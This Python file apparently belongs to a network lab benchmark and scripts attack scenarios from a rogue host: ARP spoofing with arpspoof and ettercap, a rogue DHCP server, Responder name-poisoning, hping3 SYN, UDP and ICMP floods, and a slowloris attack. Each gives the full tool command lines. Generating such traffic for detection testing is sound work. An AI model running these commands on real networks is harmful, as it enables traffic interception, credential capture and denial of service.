"""What is done to others on the same wire."""

from benchmarks.quality.lab import house
from benchmarks.quality.lab.routine import lease
from benchmarks.quality.lab.scenario import scenario
from benchmarks.quality.lab.stage import Stage

ROGUE = house.ROGUE
DESK = house.WARD["desk1"][0]


@scenario("arpspoof", "arpspoof", by=(ROGUE,))
def arpspoof(stage: Stage) -> None:
    """Between a desk and the router."""
    for target, other in ((DESK, house.ROUTER), (house.ROUTER, DESK)):
        stage.start(ROGUE, "timeout", 12, "arpspoof", "-i", "eth0", "-t", target, other)
    for _ in range(8):
        stage.at("desk1", "curl", "-sk", "-m", 1, "https://news.reader.example/about", timeout_s=3)
    stage.script(ROGUE, "sleep 8")


@scenario("ettercap", "ettercap", by=(ROGUE,))
def ettercap(stage: Stage) -> None:
    """The same by another tool."""
    targets = (f"/{DESK}//", f"/{house.ROUTER}//")
    stage.at(
        ROGUE,
        "timeout",
        "-s",
        "INT",
        10,
        "ettercap",
        "-T",
        "-q",
        "-i",
        "eth0",
        "-M",
        "arp:remote",
        *targets,
        timeout_s=15,
    )


@scenario("rogue-dhcp", "dnsmasq", "dhclient", by=(ROGUE,))
def rogue_dhcp(stage: Stage) -> None:
    """Another server of leases, which says that it is the router."""
    rogue = house.WARD[ROGUE][0]
    pid = stage.start(
        ROGUE, "dnsmasq", "-k", "-u", "root", "--conf-file=/dev/null", "--port=0", "--dhcp-authoritative", "--no-ping",
        "--dhcp-range=10.77.0.150,10.77.0.170,1h", f"--dhcp-option=3,{rogue}", f"--dhcp-option=6,{rogue}",
        "--dhcp-leasefile=/dev/null", f"--pid-file={stage.folder}/rogue.pid",
    )  # fmt: skip
    for desk in ("desk3", "desk4", "desk5"):
        lease(desk)(stage)
        stage.wait(30)
    stage.net.stop(pid)


@scenario("responder", "responder", "nmblookup", "dig", by=(ROGUE,))
def responder(stage: Stage) -> None:
    """One machine answers for every name that others do not find."""
    pid = stage.start(ROGUE, "responder", "-I", "eth0", "-v")
    stage.script(ROGUE, "sleep 4")
    for number, name in enumerate(("fileserv", "prnt01", "wpad", "intranett", "scans", "oldserver")):
        desk = f"desk{number % 5 + 1}"
        stage.at(desk, "nmblookup", "-B", "10.77.0.255", name, timeout_s=4)
        stage.at(desk, "dig", "+tries=1", "+time=1", "-p", 5355, "@224.0.0.252", name, timeout_s=4)
        stage.at(desk, "dig", "+tries=1", "+time=1", "-p", 5353, "@224.0.0.251", f"{name}.local", timeout_s=4)
        stage.wait(60)
    stage.net.stop(pid)


@scenario("hping-syn", "hping3", by=(ROGUE,))
def hping_syn(stage: Stage) -> None:
    """Twelve thousand half connections in some seconds."""
    stage.at(ROGUE, "hping3", "-q", "-S", "-p", 80, "-i", "u300", "-c", 12000, house.WARD["web"][0], timeout_s=20)


@scenario("hping-udp", "hping3", by=(ROGUE,))
def hping_udp(stage: Stage) -> None:
    """Twelve thousand datagrams."""
    stage.at(ROGUE, "hping3", "-q", "--udp", "-p", 53, "-d", 400, "-i", "u300", "-c", 12000, house.DNS, timeout_s=20)


@scenario("hping-icmp", "hping3", by=(ROGUE,))
def hping_icmp(stage: Stage) -> None:
    """Twelve thousand pings."""
    stage.at(
        ROGUE, "hping3", "-q", "--icmp", "-d", 400, "-i", "u300", "-c", 12000, house.WARD["files"][0], timeout_s=20
    )


@scenario("slowloris", "slowhttptest", by=(ROGUE,))
def slowloris(stage: Stage) -> None:
    """Two hundred requests that never end."""
    stage.at(
        ROGUE,
        "slowhttptest",
        "-H",
        "-c",
        200,
        "-r",
        50,
        "-i",
        3,
        "-l",
        15,
        "-u",
        "http://web.lab.example/about",
        timeout_s=30,
    )
